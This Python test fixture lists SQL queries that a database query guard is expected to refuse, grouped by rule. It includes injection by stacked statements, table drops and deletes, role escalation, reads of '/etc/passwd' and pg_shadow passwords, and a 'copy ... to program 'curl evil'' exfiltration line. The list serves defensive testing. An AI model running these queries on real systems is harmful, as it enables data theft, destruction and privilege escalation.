"""Queries that must be refused, each with the rule that refuses it; the same strings are sent without the guard."""

from __future__ import annotations

import re

S = "select study_id, t0_date as event_date"
T = "from task_index"

SHORT = r"""
Q1  notify x, 'y'
Q2  S T; drop table person  |  S T ; -- x
Q3  drop table person  |  delete from death  |  update person set person_id = 1  |  insert into death select * from death  |  truncate person
Q3  create table t as select 1  |  create temp table t (i int)  |  create function f() returns int language sql as 'select 1'
Q3  create extension dblink  |  load 'evil.so'  |  alter role presage_tasks superuser  |  alter system set log_statement = 'none'
Q3  grant select on person to public  |  revoke all on person from public  |  set role postgres  |  set statement_timeout = 0  |  reset all
Q3  select study_id into x T  |  S T for update  |  S T tablesample system (1)  |  lock table person  |  vacuum full person  |  begin
Q3  with d as (delete from death returning person_id) S T  |  with u as (insert into death values (1) returning 1) S T
Q3  merge into death d using person p on true when matched then delete  |  explain analyze delete from death
Q3  copy person to program 'curl evil'  |  copy person to '/tmp/x'  |  copy (select 1) to stdout
Q3  do $$ begin execute 'drop table person'; end $$  |  call evil()  |  prepare p as select 1
Q4  listen x  |  discard all  |  values (1, date '2020-01-01')
Q5  with recursive r as (S T union all select study_id, event_date from r) select study_id, event_date from r
Q6  S T i join pg_catalog.pg_authid a on true  |  S T i join information_schema.tables a on true  |  S T i join pg_user a on true
Q6  S T i join other.death d on true  |  S T i join note n on true  |  V((select passwd from pg_shadow))
Q6  with death as (select person_id from person) S T i join death d on true
Q7  V(pg_sleep(10))  |  V("PG_SLEEP"(9))  |  V(pg_read_file('/etc/passwd'))  |  V(lo_import('/etc/passwd'))  |  V(nextval('s'))
Q7  V(set_config('role', 'postgres', false))  |  V(current_setting('data_directory'))  |  V(query_to_xml('select 1', true, true, ''))
Q7  V(dblink('host=evil', 'select 1'))  |  V(pg_terminate_backend(1))  |  V(pg_advisory_lock(1))  |  V(repeat('x', 1000000000))
Q7  S T i, generate_series(1, 1000000000)  |  S T i, pg_ls_dir('/') g  |  S T where 1 operator(evil.=) 1  |  S T where random() < 0.5
Q7  select study_id, now() as event_date T  |  select study_id, current_date as event_date T
Q8  V(cast('pg_authid' as regclass))  |  V('pg_authid'::regclass::oid)
Q9  table task_index  |  select * T  |  V(task_index)  |  V((task_index).person_id)  |  V(ctid)
Q10 select study_id T  |  S, person_id as other T
Q11 S T limit 10  |  S T fetch first 1 rows with ties
"""


def attacks() -> list[tuple[str, str]]:
    """Return (rule, query) of each attack."""
    found = []
    for line in SHORT.strip().splitlines():
        rule, rest = line[:3].strip(), line[4:]
        found += [(rule, _expanded(text.strip())) for text in re.split(r"\s{2}\|\s{2}", rest)]
    return found


def _expanded(text: str) -> str:
    text = re.sub(r"^V\((.*)\)$", lambda match: f"{S}, {match[1]} as value {T}", text)
    return re.sub(r"(?<![a-zA-Z_])T(?![a-zA-Z_])", T, re.sub(r"(?<![a-zA-Z_])S(?![a-zA-Z_])", S, text))
